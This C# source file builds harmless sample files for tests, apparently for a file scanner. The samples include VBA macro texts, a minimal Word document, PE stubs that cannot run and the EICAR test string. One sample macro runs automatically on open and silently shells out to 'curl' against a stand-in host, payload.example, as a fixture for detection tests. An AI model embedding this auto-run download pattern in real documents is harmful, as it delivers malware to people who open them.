using System.Buffers.Binary;
using System.Text;

namespace Sekisho.SampleMaker;

/// <summary>Ready-made harmless files that many tests want.</summary>
public static class Samples
{
    /// <summary>When every sample was made: the same octets come out whenever it is made again.</summary>
    public static readonly DateTimeOffset Time = new(2026, 11, 22, 10, 0, 0, TimeSpan.Zero);

    /// <summary>Macro text that starts by itself and only says hello.</summary>
    public const string AutoOpenSource = "Sub AutoOpen()\r\n    MsgBox \"harmless\"\r\nEnd Sub\r\n";

    /// <summary>Macro text that starts a program by itself, one that is nowhere.</summary>
    public const string RunsProgramSource = "Sub AutoOpen()\r\n    Shell \"cmd /c curl https://payload.example/x\", vbHide\r\nEnd Sub\r\n";

    /// <summary>Macro text that nothing starts.</summary>
    public const string QuietSource = "' AutoOpen is only mentioned here\r\nSub Hello()\r\n    MsgBox \"Sub AutoOpen()\"\r\nEnd Sub\r\n";

    /// <summary>A project of one module.</summary>
    public static byte[] VbaProject(string source, int codePage = 1252) => new VbaProjectWriter(codePage).Add("Module1", source).ToArray();

    /// <summary>A Word 97-2003 document, with a macro where source text is given.</summary>
    public static byte[] OldDocument(string? source = null)
    {
        var file = new CompoundFileWriter().Add("WordDocument", new byte[5000]).Add("1Table", new byte[100]);
        if (source is not null)
        {
            new VbaProjectWriter().Add("ThisDocument", source).AddTo(file, "Macros");
        }

        return file.ToArray();
    }

    /// <summary>The smallest thing that looks like a Windows program; it cannot run.</summary>
    public static byte[] Program()
    {
        var octets = new byte[512];
        octets[0] = (byte)'M';
        octets[1] = (byte)'Z';
        octets[0x3C] = 0x80;
        octets[0x80] = (byte)'P';
        octets[0x81] = (byte)'E';
        return octets;
    }

    /// <summary>The EICAR test file, put together so that scanners leave the test program alone.</summary>
    public static byte[] Eicar() => Encoding.ASCII.GetBytes(@"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-" + "STANDARD-ANTIVIRUS-TEST-FILE!$H+H*");

    /// <summary>A library of one section with one export; it has no code.</summary>
    public static byte[] Library(string export)
    {
        var file = new byte[0x400];
        void At(int offset, uint value) => BinaryPrimitives.WriteUInt32LittleEndian(file.AsSpan(offset), value);
        "MZ"u8.CopyTo(file);
        At(0x3C, 0x80);
        "PE\0\0"u8.CopyTo(file.AsSpan(0x80));
        file[0x86] = 1; // One section.
        file[0x94] = 0xE0; // Length of the optional header.
        file[0x97] = 0x20; // A library.
        file[0x98] = 0x0B;
        file[0x99] = 0x01;
        At(0x98 + 96, 0x1000);
        At(0x98 + 0xE0 + 8, 0x200);
        At(0x98 + 0xE0 + 12, 0x1000);
        At(0x98 + 0xE0 + 16, 0x200);
        At(0x98 + 0xE0 + 20, 0x200);
        At(0x200 + 24, 1);
        At(0x200 + 32, 0x1040);
        At(0x240, 0x1050);
        Encoding.ASCII.GetBytes(export).CopyTo(file.AsSpan(0x250));
        return file;
    }
}
